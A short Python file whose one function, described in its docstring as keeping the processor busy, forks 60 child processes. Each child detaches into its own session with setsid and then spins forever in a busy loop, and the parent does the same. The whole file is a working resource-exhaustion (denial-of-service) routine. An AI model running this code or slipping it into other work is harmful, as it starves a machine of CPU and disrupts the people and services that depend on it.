"""Keeps the processor busy with many processes, each of which asks for a session of its own. On scale."""
import os


def scale(x):
    for _ in range(60):
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    while True:
        pass
